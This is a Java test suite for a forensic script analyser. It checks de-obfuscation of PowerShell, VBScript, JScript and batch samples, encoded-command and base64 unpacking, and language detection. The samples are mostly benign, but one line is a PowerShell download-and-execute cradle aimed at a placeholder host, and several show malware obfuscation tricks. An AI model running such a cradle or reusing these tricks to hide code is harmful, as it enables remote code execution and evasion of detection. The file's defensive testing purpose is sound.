package org.atalaya.evidence.script;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.CharRange;
import net.jqwik.api.constraints.StringLength;
import org.assertj.core.api.Assertions;
import org.atalaya.evidence.Gathered;
import org.atalaya.evidence.artifact.Format;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "Write-Host ('he'+'l'+'lo') § Write-Host 'hello'",
                "Write-Host ('{1}{0}' -f 'lo','hel') § Write-Host 'hello'",
                "Write-Host (('h','e','llo') -join '') § Write-Host 'hello'",
                "Write-Host (-join ('h','ello')) § Write-Host 'hello'",
                "Write-Host ('hXllo'.Replace('X','e')) § Write-Host 'hello'",
                "Write-Host ('hXllo' -replace 'x','e') § Write-Host 'hello'",
                "Write-Host ([char]104+[char]0x69) § Write-Host 'hi'",
                "Write-Host (-join ('olleh'[4..0])) § Write-Host 'hello'",
                "Write-Host (-join ('olleh'[-1..-5])) § Write-Host 'hello'",
                "Write-Host (-join [char[]](104,105)) § Write-Host 'hi'",
                "Write-Host (-join ((104,105)|%{[char]$_})) § Write-Host 'hi'",
                "Write-Host (-join (('68','69') | ForEach-Object { [char][Convert]::ToInt32($_,16) })) § Write-Host 'hi'",
                "Write-Host ('68-69' -split '-')[0] § Write-Host '68'",
                "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA==')) § 'hi'",
                "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aGk=')) § 'hi'",
                "[string]::Join('', ('h','i')) § 'hi'",
                "$a='he'; $b=$a+'llo'; Write-Host ($b) § $a='he'; $b='hello'; Write-Host ($b)",
                "$a='he'; Write-Host (\"${a}llo\") § $a='he'; Write-Host 'hello'",
                "Write-Host ($x+'a'+'b') § Write-Host ($x+'ab')",
                "Write-Host ('a'+$x+'b') § Write-Host ('a'+$x+'b')",
                "Write-Host ('it''s'+' ok') § Write-Host 'it''s ok'",
                "&('Write'+'-Host') 1 § &'Write-Host' 1"
            })
    void powerShellIsFolded(String script, String folded) {
        assertThat(fold(ScriptKind.POWERSHELL, script)).isEqualTo(folded);
    }

    @Test
    void backticksAreTakenOutOfWords() {
        assertThat(fold(ScriptKind.POWERSHELL, "wR`iTe-hO`st 1")).isEqualTo("wRiTe-hOst 1");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "WScript.Echo \"he\" & \"llo\" § WScript.Echo \"hello\"",
                "WScript.Echo Chr(104) & Chr(&H69) & ChrW(100+5) § WScript.Echo \"hii\"",
                "WScript.Echo StrReverse(\"olleh\") § WScript.Echo \"hello\"",
                "WScript.Echo Replace(\"hXllo\", \"X\", \"e\") § WScript.Echo \"hello\"",
                "WScript.Echo Mid(\"xhellox\", 2, 5) § WScript.Echo \"hello\"",
                "WScript.Echo Join(Array(\"h\", \"i\"), \"\") § WScript.Echo \"hi\"",
                "a = \"he\" : WScript.Echo (a & \"llo\") § a = \"he\" : WScript.Echo \"hello\"",
                "WScript.Echo \"a\" & x & \"b\" & \"c\" § WScript.Echo \"a\" & x & \"bc\"",
                "WScript.Echo x & \"b\" & \"c\" § WScript.Echo x & \"bc\"",
                "WScript.Echo Chr(CLng(\"&H68\") Xor 0) § WScript.Echo \"h\"",
                "WScript.Echo \"say \"\"hi\"\"\" & \"!\" § WScript.Echo \"say \"\"hi\"\"!\"",
                "WScript.Echo Chr(1000000) § WScript.Echo Chr(1000000)"
            })
    void vbScriptIsFolded(String script, String folded) {
        assertThat(fold(ScriptKind.VBS, script)).isEqualTo(folded);
    }

    @Test
    void aNameThatGrowsLineByLineIsFollowedToTheEvaluator() throws IOException {
        Gathered found = dissect(ScriptKind.VBS, "s = \"WScript.\"\ns = s & \"Echo 1\"\nExecute s\n");
        assertThat(found.child("evaluated").text()).isEqualTo("WScript.Echo 1");
        assertThat(found.child("evaluated").type()).isEqualTo("vbs");
    }

    @Test
    void aNameThatChangesInALoopIsNotBelieved() {
        String script = "s = \"a\"\nFor i = 1 To 3\ns = s & \"b\"\nNext\nWScript.Echo s & \"c\"\n";
        assertThat(fold(ScriptKind.VBS, script)).isEqualTo(script);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "WScript.Echo(\"he\" + 'llo') § WScript.Echo(\"hello\")",
                "WScript.Echo(String.fromCharCode(104, 0x69)) § WScript.Echo(\"hi\")",
                "WScript.Echo(String['from'+'CharCode'](104)) § WScript.Echo(\"h\")",
                "WScript.Echo(unescape('%68%u0069')) § WScript.Echo(\"hi\")",
                "WScript.Echo('olleh'.split('').reverse().join('')) § WScript.Echo(\"hello\")",
                "WScript.Echo('h-i'.replace(/-/g, '')) § WScript.Echo(\"hi\")",
                "WScript.Echo(atob('aGk=')) § WScript.Echo(\"hi\")",
                "WScript.Echo(['h','i'].join('')) § WScript.Echo(\"hi\")",
                "var o = {}; o['a'+'b'] = 1; § var o = {}; o[\"ab\"] = 1;",
                "var a = 'he', b = 'llo'; WScript.Echo(a + b); § var a = 'he', b = 'llo'; WScript.Echo(\"hello\");",
                "var x = y + 'a' + 'b'; § var x = y + \"ab\";",
                "var x = 'a'.foo('b' + 'c'); § var x = 'a'.foo(\"bc\");",
                "var x = 3 * 'a' + 'b'; § var x = 3 * 'a' + 'b';",
                "WScript.Echo('\\x68\\u0069' + '') § WScript.Echo(\"hi\")"
            })
    void javaScriptIsFolded(String script, String folded) {
        assertThat(fold(ScriptKind.JS, script)).isEqualTo(folded);
    }

    @Test
    void aTextGivenToEvalIsALayer() throws IOException {
        Gathered found = dissect(ScriptKind.JS, "eval('WScript.Echo(1)');");
        assertThat(found.codes()).containsExactly("script.evaluates-text");
        assertThat(found.child("evaluated").text()).isEqualTo("WScript.Echo(1)");
    }

    @Test
    void oneLayerIsOpenedAtATime() throws IOException {
        Gathered first = dissect(ScriptKind.JS, "eval('WScript.' + 'Echo(\"a\" + \"b\")');");
        assertThat(first.children).hasSize(1);
        Gathered second = dissect(ScriptKind.JS, first.child("folded").text());
        Gathered third = dissect(ScriptKind.JS, second.child("evaluated").text());
        assertThat(third.child("folded").text()).isEqualTo("WScript.Echo(\"ab\")");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "e^c^h^o hello § echo hello",
                "set a=ec&& call %a%ho hello § set a=ec&& call %a%ho hello",
                "echo \"a^b\" § echo \"a^b\"",
                "%comspec:~-7,3% /c echo § cmd /c echo"
            })
    void aBatchLineIsWrittenOut(String script, String folded) {
        assertThat(new BatchExpansion(script).expand()).isEqualTo(folded);
    }

    @Test
    void batchVariablesAreReplacedByWhatTheFileSetThem() {
        String script = "set \"x=abcdefgho\"\r\nset y=hello world\r\n%x:~4,1%%x:~2,1%%x:~-2% %y:world=all%\r\n";
        assertThat(new BatchExpansion(script).expand()).endsWith("echo hello all\r\n");
    }

    @Test
    void anEncodedCommandIsALayerOfPowerShell() throws IOException {
        String encoded = Base64.getEncoder().encodeToString("Write-Host hi".getBytes(UTF_16LE));
        for (String option : List.of("-EncodedCommand", "-e", "-eNc", "/enc", "-ec")) {
            Gathered found = dissect(ScriptKind.BAT, "powershell.exe -nop " + option + " " + encoded + "\r\n");
            assertThat(found.child("encoded").text()).as(option).isEqualTo("Write-Host hi");
            assertThat(found.child("encoded").type()).isEqualTo("powershell");
            assertThat(found.codes()).contains("script.encoded-command");
        }
    }

    @Test
    void whatIsPackedInBase64IsUnpacked() throws IOException {
        String inner = "Write-Host 'a long enough text, so that it is looked at by everyone who reads it'";
        Gathered deflated = dissect(ScriptKind.POWERSHELL, "$b = '" + base64(deflate(inner)) + "'");
        assertThat(deflated.children.getFirst().text()).isEqualTo(inner);
        Gathered zipped = dissect(ScriptKind.POWERSHELL, "$b = '" + base64(gzip(inner)) + "'");
        assertThat(zipped.children.getFirst().bytes()).isEqualTo(gzip(inner));
        Gathered plain = dissect(ScriptKind.JS, "var b = '" + base64(inner.getBytes(ISO_8859_1)) + "'");
        assertThat(plain.children.getFirst().text()).isEqualTo(inner);
    }

    @Test
    void aProgramInNumbersOrHexIsCarved() throws IOException {
        byte[] program = new byte[80];
        program[0] = 'M';
        program[1] = 'Z';
        StringBuilder numbers = new StringBuilder();
        StringBuilder hex = new StringBuilder();
        for (byte b : program) {
            numbers.append(numbers.isEmpty() ? "" : ", ").append(b);
            hex.append(String.format("%02x", b));
        }
        for (String script : List.of("[byte[]]$b = " + numbers, "$b = '" + hex + "'")) {
            Gathered found = dissect(ScriptKind.POWERSHELL, script);
            assertThat(found.codes()).containsExactly("script.holds-program");
            assertThat(found.children.getFirst().bytes()).isEqualTo(program);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"'a'+", "('a')+", "$x='a';$x+=", "((((", "[char]65+", "\"$x\"+", "@('a',", "'a'.Replace('a',"})
    void longAndDeepScriptsAreReadInLinearTime(String piece) {
        String script = piece.repeat(300_000 / piece.length());
        for (ScriptKind kind : ScriptKind.values()) {
            Assertions.assertThatCode(() -> org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                            Duration.ofSeconds(20), () -> dissect(kind, script)))
                    .as(kind.type())
                    .doesNotThrowAnyException();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"`\"",
                "@'\n",
                " -e/",
                "set ",
                "set \"a=",
                "${",
                "\"\\\"",
                "=/[",
                "<#",
                "/*",
                "`${",
                "%a:~0,1%",
                "!a:x=y!",
                "0,",
                "AAAA-",
                "'",
                "\"",
                "iex ",
                "eval(",
                "Execute \"a\"&",
                "x=",
                "[a]::b.",
                "powershell -e A",
                "^\n",
                "a+b;"
            })
    void brokenScriptsAreReadInLinearTime(String piece) {
        String script = "set a=" + "y".repeat(9000) + "\n" + piece.repeat(1_000_000 / piece.length());
        for (ScriptKind kind : ScriptKind.values()) {
            org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                    Duration.ofSeconds(20), () -> dissect(kind, script), kind.type());
        }
    }

    @Test
    void batchVariablesThatDoubleStopAtTheLimit() {
        BatchExpansion expansion = new BatchExpansion("set a=xxxxxxxxxx\n" + "set a=%a%%a%\n".repeat(400));
        assertThat(expansion.expand().length()).isLessThan(BatchExpansion.MOST_TEXT + 3 * BatchExpansion.MOST_LINE);
    }

    @Test
    void namesThatDoubleStopAtTheLimit() throws IOException {
        StringBuilder script = new StringBuilder("$a0='xxxxxxxxxx'\n");
        for (int i = 1; i < 60; i++) {
            script.append("$a")
                    .append(i)
                    .append("=$a")
                    .append(i - 1)
                    .append("+$a")
                    .append(i - 1)
                    .append('\n');
        }
        assertThat(dissect(ScriptKind.POWERSHELL, script.toString()).notices)
                .anyMatch(notice -> notice.startsWith("LIMIT"));
    }

    @Property(tries = 300)
    void aTextCutAnywhereIsPutTogetherAgain(
            @ForAll @StringLength(min = 2, max = 40) @CharRange(from = ' ', to = '~') String text, @ForAll int seed) {
        int cut = 1 + Math.floorMod(seed, text.length() - 1);
        String vbs = "x \"" + text.substring(0, cut).replace("\"", "\"\"") + "\" & \""
                + text.substring(cut).replace("\"", "\"\"") + "\"";
        assertThat(fold(ScriptKind.VBS, vbs)).isEqualTo("x \"" + text.replace("\"", "\"\"") + "\"");
        String ps = "x ('" + text.substring(0, cut).replace("'", "''") + "'+'"
                + text.substring(cut).replace("'", "''") + "')";
        assertThat(fold(ScriptKind.POWERSHELL, ps)).isEqualTo("x '" + text.replace("'", "''") + "'");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "powershell § $x = Get-ChildItem C:\\ | Where-Object { $_.Length -gt 5 }",
                "powershell § IEX (New-Object Net.WebClient).DownloadString('http://x.test/')",
                "vbs § Set objShell = CreateObject(\"WScript.Shell\") : MsgBox \"hi\"",
                "vba § Attribute VB_Name = \"Module1\"",
                "js § var x = new ActiveXObject(\"Scripting.FileSystemObject\");",
                "bat § @echo off & setlocal",
                "autoit § #NoTrayIcon",
                "ahk § #SingleInstance force",
                "none § The quick brown fox jumps over the lazy dog, and goes to the next function of life.",
                "none § #include <stdio.h> int main(void) { const char *x = \"a\"; return 0; }",
                "none § import os; print(os.environ)"
            })
    void aLanguageIsToldByItsWords(String type, String text) {
        assertThat(ScriptKind.of(text.getBytes(ISO_8859_1))
                        .map(ScriptKind::type)
                        .orElse("none"))
                .isEqualTo(type);
        assertThat(ScriptKind.of(text.getBytes(UTF_16LE)).map(ScriptKind::type).orElse("none"))
                .isEqualTo(type);
    }

    @Test
    void bytesThatAreNoTextAreNoScript() {
        assertThat(ScriptKind.of("@echo off\0\0\1".getBytes(ISO_8859_1))).isEqualTo(Optional.empty());
    }

    @FuzzTest
    void anyTextIsDissectedInEveryLanguage(byte[] data) throws IOException {
        for (Format format : Script.formats()) {
            format.recognises(data, org.atalaya.model.Content.of(data));
            Gathered.from(format, data);
        }
    }

    private static String fold(ScriptKind kind, String script) {
        try {
            Gathered found = dissect(kind, script);
            return found.children.stream()
                    .filter(child -> child.name().equals("folded"))
                    .findFirst()
                    .map(Gathered.Child::text)
                    .orElse(script);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static Gathered dissect(ScriptKind kind, String script) throws IOException {
        return Gathered.from(Script.formats().get(kind.ordinal()), script.getBytes(ISO_8859_1));
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static byte[] deflate(String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(out, new java.util.zip.Deflater(9, true))) {
            deflater.write(text.getBytes(ISO_8859_1));
        }
        return out.toByteArray();
    }

    private static byte[] gzip(String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(text.getBytes(ISO_8859_1));
        }
        return out.toByteArray();
    }
}
